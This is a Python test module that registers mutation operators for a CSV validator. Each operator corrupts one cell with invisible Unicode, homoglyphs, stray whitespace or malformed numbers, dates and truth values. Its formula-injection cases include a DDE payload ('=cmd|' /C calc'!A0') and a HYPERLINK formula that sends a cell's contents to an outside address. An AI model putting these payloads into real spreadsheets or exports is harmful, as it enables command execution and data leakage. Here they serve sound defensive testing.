"""Faults of a single cell: what it holds is no text, number, date or truth value as the project writes them.

Each spoils one cell of every column where it makes sense, in the package and in one file of each type of
seed. The cell is reported, and it alone: whatever else its value breaks is a consequence.
"""

from __future__ import annotations

import re
import unicodedata
from collections.abc import Callable, Iterator
from zlib import crc32

from scripts.model.tables import Field
from tests.mutants.damage import forge_table, in_order
from tests.mutants.operator import Mutant, Place, register
from tests.mutants.world import Sheet, World

# The text of a sound cell to that of a spoiled one; None where this cell cannot be spoiled so.
Spoil = Callable[[Field, str], str | None]
# Rules that judge a cell by itself.
FORM = {"lexical", "pattern", "enum", "required", "minimum", "maximum"}


def cell_mutant(world: World, sheet: Sheet, row: int, column: str, text: str, rule: str) -> Mutant:
    """One cell of one file with another text, to be reported there by ``rule``."""
    changed = sheet.csv.put(row, column, text)
    if sheet.context == "data":
        csv = in_order(sheet.table, changed)
        place = Place(sheet.file, csv.rows.index(changed.rows[row]) + 2, column, rule)
        # What names a row is tried alone: with it whatever is told of other columns may change.
        single = rule == "lexical" or column not in sheet.table.primary_key
        cell = (sheet.name, row, column, text) if single else None
        return Mutant(
            "data",
            f"{sheet.name}.{column}",
            lambda: forge_table(world, sheet.name, csv),
            (place,),
            cell,
            form=single and rule in FORM,
        )
    place = Place(sheet.file, row + 2, column, rule)
    return Mutant("seeds", f"{sheet.name}.{column}", lambda: {sheet.file: changed.to_bytes()}, (place,))


def spoiled(
    world: World, name: str, sheet: Sheet, fields: list[Field], spoil: Spoil, rule: str
) -> Iterator[Mutant]:
    """``spoil`` at one row of each of ``fields``; an empty cell is first filled with the example of its
    column.
    """
    for field in fields:
        row = sheet.pick(name, field.name)
        text = spoil(field, sheet.csv.cell(row, field.name) or field.example)
        if text is not None:
            yield cell_mutant(world, sheet, row, field.name, text, rule)


def chosen(salt: str, sheet: Sheet, fields: list[Field]) -> list[Field]:
    """One of ``fields``, the same for the same ``salt``; none where there are none."""
    return sorted(fields, key=lambda f: crc32(f"{salt} {sheet.file} {f.name}".encode()))[:1]


def register_spoil(
    group: str, name: str, sentence: str, fits: Callable[[Field], bool], spoil: Spoil, rule: str = "lexical"
) -> None:
    """An operator that spoils one cell of every fitting column of the package, and of one such column in each
    type of seed file.
    """

    def plant(world: World) -> Iterator[Mutant]:
        for sheet in world.tables.values():
            yield from spoiled(world, name, sheet, [f for f in sheet.fields if fits(f)], spoil, rule)
        for sheet in world.seed_types(name):
            yield from spoiled(
                world, name, sheet, chosen(name, sheet, [f for f in sheet.fields if fits(f)]), spoil, rule
            )

    register(name, group, sentence, plant)


def is_text(field: Field) -> bool:
    return field.type == "string"


def is_prose(field: Field) -> bool:
    """Free text: neither a list of values nor an id or a date."""
    return field.type == "string" and not field.enum and not field.pattern


def inside(mark: str) -> Spoil:
    """``mark`` after the first character."""
    return lambda field, text: text[:1] + mark + text[1:]


def after(mark: str) -> Spoil:
    return lambda field, text: text + mark


def before(mark: str) -> Spoil:
    return lambda field, text: mark + text


def instead(other: str) -> Spoil:
    return lambda field, text: other


def after_letter(mark: str) -> Spoil:
    """``mark`` after the first letter that is Latin or Hangul; a text without one stays."""
    return lambda field, text: (
        re.sub("[A-Za-z가-힣]", lambda m: m[0] + mark, text, count=1)
        if re.search("[A-Za-z가-힣]", text)
        else None
    )


TEXT: list[tuple[str, str, Callable[[Field], bool], Spoil]] = [
    ("zero-width-space", "A zero-width space inside a word.", is_text, inside("\u200b")),
    ("zero-width-joiner", "A zero-width joiner inside a word.", is_text, inside("\u200d")),
    ("soft-hyphen", "A soft hyphen inside a word.", is_text, inside("\u00ad")),
    ("bom-inside", "A byte order mark at the start of a cell, as left by joining files.", is_text,
     before("\ufeff")),
    ("right-to-left-override", "A mark that turns the direction of writing.", is_text, inside("\u202e")),
    ("variation-selector", "A variation selector after a letter.", is_text, inside("\ufe0f")),
    ("hangul-filler", "A Hangul filler, a letter without a shape.", is_text, inside("\u3164")),
    ("tag-character", "A tag character, invisible and above the basic plane.", is_text, inside("\U000e0061")),
    ("line-separator", "A Unicode line separator inside.", is_text, inside("\u2028")),
    ("replacement-character", "The mark left where a byte could not be decoded.", is_text, inside("\ufffd")),
    ("private-use-character", "A character of a private font.", is_text, inside("\ue000")),
    ("ligature", "A ligature for the letters that it joins, as copied from a PDF.", is_text,
     inside("\ufb03")),
    ("full-width-letter", "A letter in full width.", is_text, inside("\uff21")),
    ("mathematical-letter", "A mathematical letter, as used to write bold where there is no bold.", is_text,
     inside("\U0001d41a")),
    ("circled-digit", "A digit in a circle.", is_text, inside("\u2460")),
    ("cyrillic-letter-in-a-word",
     "A Cyrillic letter in a word of other letters, which looks like a Latin one.", is_prose,
     after_letter("\u0435")),
    ("phonetic-letter", "A letter of the phonetic alphabet that looks like a plain one.", is_prose,
     after_letter("\u0261")),
    ("decomposed-hangul", "Hangul as separate letters (normal form D), as some file systems write it.",
     is_prose, lambda f,
     t: unicodedata.normalize("NFD", t if unicodedata.normalize("NFD", t) != t else t + "각")),
    ("decomposed-accent", "A letter and its accent as two characters.", is_prose, after("e\u0301")),
    ("leading-space", "A space before the text.", is_text, before(" ")),
    ("trailing-space", "A space after the text.", is_text, after(" ")),
    ("no-break-space", "A no-break space inside.", is_text, inside("\u00a0")),
    ("narrow-no-break-space", "A narrow no-break space inside.", is_text, inside("\u202f")),
    ("ideographic-space", "A full-width space after the text.", is_text, after("\u3000")),
    ("trailing-newline", "A line feed after the text.", is_text, after("\n")),
    ("line-break-inside", "A line feed inside the cell.", is_text, inside("\n")),
    ("tab-inside", "A tab inside the cell.", is_text, inside("\t")),
    ("control-character", "A control character inside the cell.", is_text, inside("\x07")),
    ("c1-control-character", "A control character of the upper half (U+0085).", is_text, inside("\x85")),
    ("formula-equals", "A cell that a spreadsheet runs: it begins with =.", is_text, before("=")),
    ("formula-plus", "A cell that a spreadsheet runs: it begins with +.", is_text, before("+")),
    ("formula-minus", "A cell that a spreadsheet runs: it begins with -.", is_text, before("-")),
    ("formula-at", "A cell that a spreadsheet runs: it begins with @.", is_text, before("@")),
    ("formula-tab", "A cell that begins with a tab and then a formula.", is_text, before("\t=")),
    ("formula-command", "A formula that starts a program.", is_text, instead("=cmd|' /C calc'!A0")),
    ("formula-link", "A formula that sends the sheet to an address.", is_text,
     instead('=HYPERLINK("https://example.org/?"&A1)')),
]  # fmt: skip
for _name, _sentence, _fits, _spoil in TEXT:
    register_spoil("text", _name, _sentence, _fits, _spoil)


def wide(text: str) -> str:
    """Digits in full width, as Korean and Japanese input writes them."""
    return text.translate({ord("0") + i: chr(0xFF10 + i) for i in range(10)})


def of_type(*types: str) -> Callable[[Field], bool]:
    return lambda field: field.type in types


figure, whole, real, day, truth = (
    of_type("integer", "number"),
    of_type("integer"),
    of_type("number"),
    of_type("date"),
    of_type("boolean"),
)
VALUES: list[tuple[str, str, str, Callable[[Field], bool], Spoil]] = [
    ("number", "letters-in-number", "A letter among the digits.", figure, after("O")),
    ("number", "thousands-comma", "A comma between thousands.", figure, instead("1,234")),
    ("number", "thousands-space", "A space between thousands.", figure, instead("1 234")),
    ("number", "digit-underscore", "An underscore between digits.", figure, instead("1_234")),
    ("number", "decimal-zero", "A whole number with a decimal point, as a spreadsheet saves it.", figure,
     lambda f, t: t + (".0" if "." not in t else "0")),
    ("number", "decimal-comma", "A comma for the decimal point.", real, instead("1,5")),
    ("number", "bare-decimal-point", "A number that begins with its decimal point.", real, instead(".5")),
    ("number", "leading-zero", "A zero before the number.", figure, before("0")),
    ("number", "plus-sign", "A plus sign before the number.", figure, before("+")),
    ("number", "minus-zero", "Zero with a sign.", figure, instead("-0")),
    ("number", "exponent", "An amount with an exponent, as a spreadsheet shortens it.", whole,
     instead("3E+06")),
    ("number", "exponent-of-number", "A decimal number with an exponent.", real, instead("1.5E+03")),
    ("number", "number-too-large", "A number that no 64-bit type holds.", figure, lambda f,
     t: "9223372036854775808" if f.type == "integer" else "1e999"),
    ("number", "nan", "NaN, not a number.", figure, instead("NaN")),
    ("number", "infinity", "An infinite number.", figure, instead("inf")),
    ("number", "hexadecimal", "A hexadecimal number.", figure, instead("0x1f")),
    ("number", "full-width-digits", "Digits in full width.", figure, lambda f, t: wide(t)),
    ("number", "arabic-digits", "Digits of another script, which programs read as numbers too.", figure,
     instead("\u0661\u0662")),
    ("number", "number-in-words", "A number with its scale in words.", figure, instead("10 million")),
    ("number", "number-in-korean", "A number with its scale in Korean.", figure, instead("300만")),
    ("number", "currency-sign", "A currency sign before the number.", figure, before("$")),
    ("number", "percent-sign", "A percent sign after the number.", figure, after("%")),
    ("number", "number-trailing-newline", "A line feed after the number.", figure, after("\n")),
    ("number", "number-leading-space", "A space before the number.", figure, before(" ")),
    ("number", "missing-as-word", "A word for a missing value.",
     of_type("integer", "number", "date", "boolean"), instead("N/A")),
    ("number", "missing-as-dash", "A dash for a missing value.",
     of_type("integer", "number", "date", "boolean"), instead("-")),
    ("number", "only-a-space", "A space for a missing value.",
     of_type("integer", "number", "date", "boolean"), instead(" ")),
    ("date", "no-such-day", "The 30th of February.", day, instead("2025-02-30")),
    ("date", "no-such-month", "A thirteenth month.", day, instead("2025-13-01")),
    ("date", "year-zero", "The year 0000.", day, instead("0000-01-01")),
    ("date", "date-with-slashes", "A date in another order with slashes.", day, instead("04/03/2025")),
    ("date", "date-without-zeros", "A date without leading zeros.", day, instead("2025-3-4")),
    ("date", "date-compact", "A date without hyphens.", day, instead("20250304")),
    ("date", "date-with-time", "A date with an hour.", day, after("T00:00:00")),
    ("date", "date-as-serial-number", "A date as the number that a spreadsheet keeps.", day,
     instead("45720")),
    ("date", "date-in-words", "A date in words.", day, instead("4 March 2025")),
    ("date", "date-in-korean", "A date in Korean.", day, instead("2025년 3월 4일")),
    ("date", "date-of-month", "A month where a day is needed.", day, instead("2025-03")),
    ("date", "date-full-width", "A date in full-width digits.", day, lambda f, t: wide(t)),
    ("date", "date-trailing-newline", "A line feed after the date.", day, after("\n")),
    ("date", "date-leading-space", "A space before the date.", day, before(" ")),
    ("date", "date-two-digit-year", "A year of two digits.", day, instead("25-03-04")),
    ("boolean", "boolean-capital", "True or False with a capital.", truth, lambda f, t: t.capitalize()),
    ("boolean", "boolean-shouted", "TRUE or FALSE, as a spreadsheet writes it.", truth, lambda f,
     t: t.upper()),
    ("boolean", "boolean-as-number", "One or zero for a truth value.", truth, lambda f,
     t: str(int(t == "true"))),
    ("boolean", "boolean-as-word", "Yes or no for a truth value.", truth, lambda f,
     t: "yes" if t == "true" else "no"),
    ("boolean", "boolean-in-korean", "A truth value in Korean.", truth, instead("예")),
    ("boolean", "boolean-trailing-newline", "A line feed after a truth value.", truth, after("\n")),
    ("boolean", "boolean-leading-space", "A space before a truth value.", truth, before(" ")),
]  # fmt: skip
for _group, _name, _sentence, _fits, _spoil in VALUES:
    register_spoil(_group, _name, _sentence, _fits, _spoil)
